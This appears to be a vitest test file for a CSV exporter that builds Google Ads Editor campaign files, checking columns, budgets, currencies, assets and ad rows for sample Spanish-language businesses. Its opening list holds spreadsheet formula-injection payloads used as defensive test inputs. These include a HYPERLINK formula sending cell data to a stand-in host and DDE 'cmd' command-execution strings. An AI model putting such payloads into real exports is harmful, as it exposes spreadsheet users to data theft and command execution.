import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Campaign, Strategy } from '../contract/campaigns.js';
import type { PlannedAssets } from '../copy/assets.js';
import { csvField, EDITOR_COLUMNS, editorCsv, keywordsCsv, neutralizeFormula, toCsv } from './export-csv.js';

/**
 * CSV injection (OWASP "CSV Injection"): a cell that starts with =, +, -, @, a tab or a
 * carriage return (also after leading spaces) reaches the spreadsheet as text, never as a formula.
 */
const VECTORS: Array<[label: string, value: string]> = [
  ['equals', '=HYPERLINK("http://evil.example/?d="&A2,"Click")'],
  ['plus', "+cmd|' /C calc'!A0"],
  ['minus', "-2+3+cmd|' /C calc'!A0"],
  ['at', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
  ['spaces then equals', '   =1+1'],
  ['no-break space then plus', '\u00a0+1'],
  ['full-width equals', '\uff1d1+1'],
  ['full-width at', '\uff20SUM(1)'],
  ['newline then minus', '\n-1+1'],
];

const FORMULA = /^[\s\u00a0\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const strategyWith = (text: string): Strategy => ({
  summary: 's',
  recommendedCampaignType: 'Search',
  bidding: 'b',
  adGroups: [{ name: text, keywords: [{ text, matchType: 'PHRASE' }] }],
  headlines: [text, 'Pan artesanal', 'Tartas a medida'],
  descriptions: [text, 'Pan de masa madre cada mañana.'],
  negativeKeywords: [text],
  budget: { weekly: 100, daily: 14.29, split: [] },
  kpis: [],
  nextSteps: [],
});

const campaignWith = (text: string): Campaign => ({
  id: 'c1',
  name: text,
  status: 'Strategy ready',
  createdAt: '2026-11-23T00:00:00.000Z',
  objective: 'Sales',
  type: 'Search',
  location: text,
  language: 'Spanish',
  budget: 100,
  pages: { landing: 'https://example.com' },
  updatedAt: '2026-11-23T00:00:00.000Z',
  description: '',
  keywords: [],
  negativeKeywords: [],
  strategyText: '',
  generationError: null,
  googleAdsPending: null,
});

describe('formula neutralisation', () => {
  it.each(VECTORS)('%s: the cell is written as text (a leading single quote)', (_label, value) => {
    expect(neutralizeFormula(value)).toBe(`'${value}`);
    const rows = parse(toCsv([[value]]), { bom: true, relax_quotes: true }) as string[][];
    expect(rows[0]?.[0]).toBe(`'${value}`);
  });

  it('leaves ordinary text, inner signs and numbers alone', () => {
    for (const text of ['Panadería', 'pan + café', 'a=b', 'e-mail', 'x@y.z', '100%', '']) expect(neutralizeFormula(text)).toBe(text);
    expect(csvField(-5)).toBe('-5');
    expect(csvField('14.29')).toBe('14.29');
  });

  it.each(VECTORS)('%s: no cell of the Editor or keywords CSV starts a formula', (_label, value) => {
    for (const csv of [editorCsv(campaignWith(value), strategyWith(value)), keywordsCsv(strategyWith(value))]) {
      const rows = parse(csv, { bom: true, relax_column_count: true }) as string[][];
      const cells = rows.flat();
      expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
      // The value is still there, whole, as text.
      expect(cells.some((c) => c.includes(value.trim()) && c.startsWith("'"))).toBe(true);
    }
  });
});

describe('Editor CSV with one ad per ad group', () => {
  const headlines = (tag: string) => Array.from({ length: 15 }, (_, i) => `${tag} titular ${i + 1}`);
  const descriptions = (tag: string) => Array.from({ length: 4 }, (_, i) => `${tag}: descripción número ${i + 1}.`);
  const strategy: Strategy = {
    ...strategyWith('x'),
    adGroups: [
      {
        name: 'Facturas',
        keywords: [{ text: 'facturas', matchType: 'EXACT' }],
        ad: { headlines: headlines('Facturas'), descriptions: descriptions('Facturas'), path1: 'facturas', path2: 'cordoba' },
      },
      {
        name: 'Tortas',
        keywords: [{ text: 'tortas de cumpleaños', matchType: 'PHRASE' }],
        ad: {
          headlines: headlines('Tortas'),
          descriptions: descriptions('Tortas'),
          path1: 'tortas',
          path2: '',
          finalUrl: 'https://example.com/tortas',
        },
      },
    ],
    headlines: ['Compartido uno', 'Compartido dos', 'Compartido tres'],
    descriptions: ['Compartida uno.', 'Compartida dos.'],
    negativeKeywords: ['factura electrónica'],
  };

  it('writes each group its own responsive search ad row, under the columns Editor names', () => {
    const rows = parse(editorCsv(campaignWith('Panadería'), strategy), { bom: true, columns: true }) as Record<string, string>[];
    const ads = rows.filter((r) => r['Ad type'] === 'Responsive search ad');
    expect(ads.map((r) => r['Ad group'])).toEqual(['Facturas', 'Tortas']);
    for (const [i, tag] of ['Facturas', 'Tortas'].entries()) {
      const ad = ads[i]!;
      for (let h = 1; h <= 15; h++) expect(ad[`Headline ${h}`]).toBe(`${tag} titular ${h}`);
      for (let d = 1; d <= 4; d++) expect(ad[`Description ${d}`]).toBe(`${tag}: descripción número ${d}.`);
    }
    // A group with its own page links there, as creation does; the other to the landing page.
    expect(ads.map((r) => r['Final URL'])).toEqual(['https://example.com', 'https://example.com/tortas']);
    expect([ads[0]!['Path 1'], ads[0]!['Path 2']]).toEqual(['facturas', 'cordoba']);
    expect([ads[1]!['Path 1'], ads[1]!['Path 2']]).toEqual(['tortas', '']);
    // No shared line leaks into a group that has its own ad.
    expect(JSON.stringify(ads)).not.toContain('Compartido');
    expect(rows.find((r) => r['Criterion Type'] === 'Negative Phrase')?.['Keyword']).toBe('factura electrónica');
  });

  it('repeats the shared set in every group for a strategy stored before per-group ads', () => {
    const old: Strategy = { ...strategy, adGroups: strategy.adGroups.map(({ name, keywords }) => ({ name, keywords })) };
    const rows = parse(editorCsv(campaignWith('Panadería'), old), { bom: true, columns: true }) as Record<string, string>[];
    const ads = rows.filter((r) => r['Ad type'] === 'Responsive search ad');
    expect(ads).toHaveLength(2);
    for (const ad of ads)
      expect([ad['Headline 1'], ad['Headline 3'], ad['Headline 4'], ad['Description 2']]).toEqual([
        'Compartido uno',
        'Compartido tres',
        '',
        'Compartida dos.',
      ]);
  });
});

describe('Editor CSV of a nail salon in Guadalajara, peso account', () => {
  const strategy: Strategy = {
    ...strategyWith('x'),
    adGroups: [
      {
        name: 'Manicure Zapopan',
        keywords: [{ text: 'manicure zapopan', matchType: 'PHRASE' }],
        ad: {
          headlines: ['Manicure en Zapopan', 'Uñas acrílicas', 'Citas por WhatsApp'],
          descriptions: ['Uñas acrílicas y gelish en Zapopan.', 'Agenda tu cita hoy.'],
          path1: 'Manicure Zapopan',
          path2: 'Pedicure spa Guadalajara',
        },
      },
    ],
    negativeKeywords: [],
    budget: { weekly: 110, daily: 15.71, split: [] },
  };
  const assets: PlannedAssets = {
    sitelinks: [
      {
        text: 'Servicios',
        description1: 'Manicure y pedicure',
        description2: 'Uñas acrílicas y gelish',
        url: 'https://unas.example/servicios',
      },
      {
        text: 'Contacto',
        description1: 'Teléfono: 33 1234 5678',
        description2: 'Citas por WhatsApp',
        url: 'https://unas.example/contacto',
      },
    ],
    callouts: ['Citas por WhatsApp', 'Gelish'],
    snippets: [{ header: 'Service catalog', values: ['Manicure', 'Pedicure', 'Uñas acrílicas'] }],
    call: { countryCode: 'MX', phoneNumber: '3312345678' },
    price: {
      type: 'SERVICES',
      languageCode: 'es',
      offerings: [
        { header: 'Uñas acrílicas', description: 'Por mano', amount: 450, currency: 'MXN', url: 'https://unas.example/' },
        { header: 'Pedicure spa', description: 'Con exfoliación', amount: 350, currency: 'MXN', url: 'https://unas.example/' },
        { header: 'Gelish', description: 'Manos', amount: 250, currency: 'MXN', url: 'https://unas.example/' },
      ],
    },
    notes: [],
  };
  const csv = editorCsv(campaignWith('Uñas Guadalajara'), strategy, { budget: { currency: 'MXN', daily: 289.1 }, assets });
  const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];

  it('has exactly Editor’s columns, each row as wide as the header', () => {
    const [header] = parse(csv, { bom: true, to: 1 }) as string[][];
    expect(header).toEqual([...EDITOR_COLUMNS]);
    for (const name of ['Campaign', 'Budget', 'Budget type', 'Link text', 'Callout text', 'Phone number', 'Country of phone']) {
      expect(header).toContain(name);
    }
    // csv-parse refuses a row of another width (relax_column_count is off).
    expect(rows.length).toBeGreaterThan(5);
  });

  /**
   * Editor's published headers with their alternates, "Import a CSV file in Google Ads Editor — CSV
   * file columns", https://support.google.com/google-ads/editor/answer/57747?hl=en ("capitalization
   * and spaces don't matter"). Only the part of that table the stored copy of the page shows: the
   * campaign's settings.
   */
  const PUBLISHED: Record<string, string[]> = {
    campaign: ['Campaign', 'Campaign name'],
    type: ['Campaign type'],
    budget: ['Campaign daily budget', 'Daily budget', 'Campaign budget', 'Budget'],
    languages: ['Language targeting', 'Language', 'Languages'],
    location: ['Location', 'Geo targeting'],
    networks: ['Networks'],
  };
  const editorName = (header: string) => header.toLowerCase().replace(/[\s_]+/g, '');

  it('names the campaign’s settings as Editor’s published columns do', () => {
    const [header] = parse(csv, { bom: true, to: 1 }) as string[][];
    const written = new Set(header!.map(editorName));
    for (const [setting, names] of Object.entries(PUBLISHED)) {
      expect(
        names.some((n) => written.has(editorName(n))),
        `${setting}: one of ${names.join(', ')}`,
      ).toBe(true);
    }
    const campaignRow = rows.find((r) => r['Budget'])!;
    expect([campaignRow['Campaign'], campaignRow['Campaign type'], campaignRow['Networks'], campaignRow['Languages']]).toEqual([
      'Uñas Guadalajara',
      'Search',
      'Google search',
      'es',
    ]);
  });

  it('states the budget in pesos, the currency beside it', () => {
    const campaignRow = rows.find((r) => r['Budget'])!;
    expect([campaignRow['Budget'], campaignRow['Budget type'], campaignRow['Currency']]).toEqual(['289.10', 'Daily', 'MXN']);
  });

  it('carries every asset creation sends', () => {
    expect(rows.filter((r) => r['Link text']).map((r) => [r['Link text'], r['Description line 1'], r['Final URL']])).toEqual([
      ['Servicios', 'Manicure y pedicure', 'https://unas.example/servicios'],
      ['Contacto', 'Teléfono: 33 1234 5678', 'https://unas.example/contacto'],
    ]);
    expect(rows.filter((r) => r['Callout text']).map((r) => r['Callout text'])).toEqual(['Citas por WhatsApp', 'Gelish']);
    expect(rows.filter((r) => r['Header']).map((r) => [r['Header'], r['Values']])).toEqual([
      ['Service catalog', 'Manicure;Pedicure;Uñas acrílicas'],
    ]);
    expect(rows.filter((r) => r['Phone number']).map((r) => [r['Phone number'], r['Country of phone']])).toEqual([['3312345678', 'MX']]);
    const price = rows.find((r) => r['Price type'])!;
    expect([price['Price type'], price['Currency'], price['Item 1 header'], price['Item 1 price'], price['Item 3 price']]).toEqual([
      'Services',
      'MXN',
      'Uñas acrílicas',
      '450.00',
      '250.00',
    ]);
  });

  it('cuts display paths at word boundaries', () => {
    const ad = rows.find((r) => r['Ad type'] === 'Responsive search ad')!;
    expect([ad['Path 1'], ad['Path 2']]).toEqual(['manicure', 'pedicure-spa']);
  });

  it('writes a zero-decimal currency without cents', () => {
    const chile = parse(editorCsv(campaignWith('Uñas'), strategy, { budget: { currency: 'CLP', daily: 14_000 } }), {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    expect(chile.find((r) => r['Budget'])?.['Budget']).toBe('14000');
  });
});
